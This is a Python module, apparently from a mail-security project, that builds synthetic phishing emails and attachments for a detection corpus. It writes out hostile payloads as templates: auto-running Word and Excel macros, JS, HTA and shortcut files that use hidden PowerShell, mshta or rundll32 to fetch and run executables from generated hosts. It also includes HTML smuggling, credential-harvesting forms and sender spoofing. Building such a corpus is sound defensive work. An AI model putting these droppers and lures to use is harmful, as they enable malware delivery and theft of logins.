"""Files that carry the attack: tools, codes, pages, macros, archives, invitations."""

import base64
from collections.abc import Callable
from random import Random

from mailguard.corpus import hosts, people
from mailguard.corpus.attacks.families import family
from mailguard.corpus.phrases import Phrases, pools
from mailguard.corpus.scenes import Scene, contact, target
from mailguard.corpus.writers import calendars, formats, locks, papers

_MACRO = "application/vnd.ms-word.document.macroEnabled.12"
_RUNS = (
    [
        "Sub AutoOpen()",
        'Set s = CreateObject("WScript.Shell")',
        's.Run "powershell -w hidden -c iwr {url} -o %TEMP%\\a.exe"',
        "End Sub",
    ],
    [
        "Private Sub Document_Open()",
        'Dim x: Set x = CreateObject("MSXML2.XMLHTTP")',
        'x.Open "GET", "{url}", False',
        "x.Send",
        'Shell Environ("TEMP") & "\\u.exe"',
        "End Sub",
    ],
    ["Sub AutoOpen()", 'Shell "cmd /c mshta {url}", vbHide', "End Sub"],
)
_COMMANDS = (
    ("..\\..\\Windows\\System32\\cmd.exe", "/c powershell -w hidden iwr {url} -o %temp%\\a.exe"),
    ("..\\..\\Windows\\System32\\mshta.exe", "{url}"),
    ("..\\..\\Windows\\System32\\rundll32.exe", "%temp%\\d.dll,Start"),
)


def _from_anyone(scene: Scene) -> None:
    """A colleague's free mailbox, a supplier's like, a stranger's broken mailbox, our own domain forged."""
    random = scene.random
    draw = random.random()
    if draw < 0.25:
        scene.write_free(scene.other("staff").name)
    elif draw < 0.5:
        firm = scene.campaign.firm(random.choice(["printer", "venue", "agency", "accountant"]))
        person = contact(firm, random)
        scene.write_as(person.name, f"{person.address.partition('@')[0]}@{hosts.near(random, firm.domain)}")
    elif draw < 0.8:
        name = f"{people.first(random, scene.language)} {people.last(random, scene.language)}"
        scene.write_hacked(name, people.slug(name).replace("-", "."))
    else:
        scene.write_spoofed("Scanner", f"scanner@{scene.campaign.domain}")


def _theme(scene: Scene) -> str:
    """Subject and first paragraph of one of the common themes; the name of its file without ending."""
    themes = pools(f"attacks_{scene.language}")["themes"]
    theme = themes[scene.random.choice(sorted(themes))]
    parts = [theme["lead"], *scene.words["parts"]]
    scene.words = {**scene.words, "subject": theme["subject"], "parts": parts}
    values = {**people.values(scene.random, scene.language, ""), "town": scene.campaign.town}
    values |= {"venue": scene.campaign.firm("venue").name, "campaign": scene.campaign.name}
    return Phrases(scene.random, values).one(theme["names"]).replace("/", "-")


def _password(scene: Scene) -> str:
    word = scene.random.choice(["2026", "Camp", "doc", "A7", "vote", "Mairie", "open"])
    made = f"{word}{scene.random.randint(100, 9999)}"
    scene.values["password"] = made
    return made


@family
def support_tool(scene: Scene) -> None:
    """Our own IT is said to write: we are under attack, install this."""
    it = scene.campaign.who("it")
    scene.target = target(scene.random, scene.campaign, "staff", "candidate", "treasurer")
    draw = scene.random.random()
    if draw < 0.5:
        scene.write_free(it.name)
    elif draw < 0.8:
        scene.write_as(
            it.name, f"{it.address.partition('@')[0]}@{hosts.near(scene.random, scene.campaign.domain)}"
        )
    else:
        scene.write_spoofed(it.name, it.address)
    scene.signature = f"{it.name}\n{it.title}"
    tool = scene.random.choice(["MailScan", "CleanTool", "patch-kb5031", "AntiPhish", "Setup"])
    for ending in scene.random.sample(["exe", "zip", "js", "hta"], scene.random.choice([1, 2])):
        scene.files.append(_tool(scene.random, tool, ending))


def _tool(random: Random, name: str, ending: str) -> tuple[str, str, bytes]:
    url = f"http://{hosts.page(random)}/u.exe"
    if ending == "exe":
        return f"{name}.exe", "application/octet-stream", formats.PROGRAM
    if ending == "zip":
        return f"{name}.zip", "application/zip", formats.zipped({f"{name}.exe": formats.PROGRAM})
    if ending == "js":
        script = f'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden iwr {url} -o a.exe");'
        return f"{name}.js", "application/javascript", script.encode()
    page = f'<script language="VBScript">CreateObject("WScript.Shell").Run "powershell iwr {url}"</script>'
    return f"{name}.hta", "application/hta", page.encode()


@family
def qr_picture(scene: Scene) -> None:
    name = _theme(scene)
    _from_anyone(scene)
    scene.files.append((f"{name}.png", "image/png", formats.picture(scene.portal())))
    scene.style = scene.random.choice(["simple", "bare"])


@family
def qr_document(scene: Scene) -> None:
    name = _theme(scene)
    _from_anyone(scene)
    code = papers.code(scene.portal())
    scene.files.append(
        (f"{name}.pdf", "application/pdf", papers.pdf([name, scene.campaign.name], picture=code))
    )


@family
def pdf_link(scene: Scene) -> None:
    """A PDF that is little more than one link."""
    name = _theme(scene)
    _from_anyone(scene)
    words = {"en": ["Secure document", "View document"], "fr": ["Document sécurisé", "Voir le document"]}
    made = papers.pdf([name, *words[scene.language]], scene.portal())
    scene.files.append((f"{name}.pdf", "application/pdf", made))


@family
def html_attachment(scene: Scene) -> None:
    name = _theme(scene)
    _from_anyone(scene)
    page = (
        f"<!doctype html><html><head><title>{name}</title></head><body><h2>{scene.campaign.name}</h2>"
        f'<form method="post" action="{scene.portal()}"><input name="u" value="{scene.target.address}">'
        '<input type="password" name="p"><button>OK</button></form></body></html>'
    )
    ending = scene.random.choice(["html", "htm", "shtml"])
    scene.files.append((f"{name}.{ending}", "text/html", page.encode()))


@family
def html_smuggling(scene: Scene) -> None:
    name = _theme(scene)
    _from_anyone(scene)
    inside = base64.b64encode(formats.zipped({f"{name}.exe": formats.PROGRAM})).decode()
    page = (
        f"<!doctype html><html><body><p>{name}</p><script>var d=atob('{inside}');"
        "var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);"
        "var b=new Blob([a],{type:'application/octet-stream'});"
        "var l=document.createElement('a');l.href=URL.createObjectURL(b);"
        f"l.download='{name}.zip';document.body.appendChild(l);l.click();</script></body></html>"
    )
    scene.files.append((f"{name}.html", "text/html", page.encode()))


def _macro(random: Random) -> bytes:
    return formats.document(pieces={"word/vbaProject.bin": formats.macro_project(_source(random))})


def _source(random: Random) -> str:
    return "\r\n".join(random.choice(_RUNS)).format(url=f"http://{hosts.page(random)}/u.exe") + "\r\n"


@family
def macro_document(scene: Scene) -> None:
    """A document whose macro starts by itself."""
    name = _theme(scene)
    _from_anyone(scene)
    scene.files.append((f"{name}.docm", _MACRO, _macro(scene.random)))


@family
def encrypted_zip(scene: Scene) -> None:
    name = _theme(scene)
    _from_anyone(scene)
    inner = f"{people.slug(name)}.{scene.random.choice(['exe', 'docm', 'js', 'scr'])}"
    data = formats.PROGRAM if inner.endswith(("exe", "scr")) else _macro(scene.random)
    made = locks.old(_password(scene).encode(), inner.encode(), data)
    scene.files.append((f"{name}.zip", "application/zip", made))


def _shortcut(scene: Scene, page: str) -> bytes:
    path, arguments = scene.random.choice(_COMMANDS)
    return formats.shortcut(path, arguments.format(url=f"http://{hosts.page(scene.random)}/{page}"))


@family
def disk_image(scene: Scene) -> None:
    """A disk, so that what lies on it loses the mark of the Internet."""
    name = _theme(scene)
    _from_anyone(scene)
    link = _shortcut(scene, "a")
    made = formats.disk({f"{people.slug(name)[:30]}.lnk": link, "d.dll": formats.PROGRAM})
    scene.files.append((f"{name}.{scene.random.choice(['iso', 'img'])}", "application/octet-stream", made))


@family
def shortcut(scene: Scene) -> None:
    name = _theme(scene)
    _from_anyone(scene)
    link = _shortcut(scene, "a.hta")
    scene.files.append((f"{name}.zip", "application/zip", formats.zipped({f"{name}.pdf.lnk": link})))


@family
def calendar_invitation(scene: Scene) -> None:
    random = scene.random
    person = scene.other("director")
    if random.random() < 0.5:
        scene.write_free(person.name)
    else:
        scene.write_as(person.name, scene.services_mailbox())
    scene.urls = [scene.portal()]
    scene.style = random.choice(["simple", "plain"])
    scene.calendar = calendars.invitation(
        scene.author, scene.target.mailbox, scene.campaign.today_at, person.title, scene.urls[0]
    )


@family
def volunteer_cv(scene: Scene) -> None:
    """Somebody offers to help; the CV is a program, a macro or a locked archive."""
    random = scene.random
    name = f"{people.first(random, scene.language)} {people.last(random, scene.language)}"
    scene.write_free(name)
    password = _password(scene)
    page = hosts.url(random, hosts.page(random), "")
    file = f"CV-{people.slug(name)}"
    carriers: dict[str, tuple[str, Callable[[], bytes]]] = {
        "docm": (_MACRO, lambda: _macro(random)),
        "zip": ("application/zip", lambda: locks.old(password.encode(), f"{file}.exe".encode())),
        "iso": ("application/octet-stream", lambda: formats.disk({f"{file}.exe": formats.PROGRAM})),
        "html": ("text/html", lambda: f'<script>location="{page}"</script>'.encode()),
    }
    ending = random.choice(sorted(carriers))
    type_, build = carriers[ending]
    scene.files.append((f"{file}.{ending}", type_, build()))


@family
def poll_preview(scene: Scene) -> None:
    random = scene.random
    name = random.choice(["Institut Pollmark", "Vox Insight", "Opinion Desk", "Baromètre & Co"])
    host = f"{people.slug(name)}{random.choice(['-polls', '-data', ''])}.{random.choice(['com', 'net'])}"
    scene.write_as(name, f"embargo@{host}")
    if random.random() < 0.5:
        scene.urls = [scene.portal()]
    else:
        made = formats.document("xl", {"xl/vbaProject.bin": formats.macro_project(_source(random))})
        scene.files.append(("crosstabs.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", made))
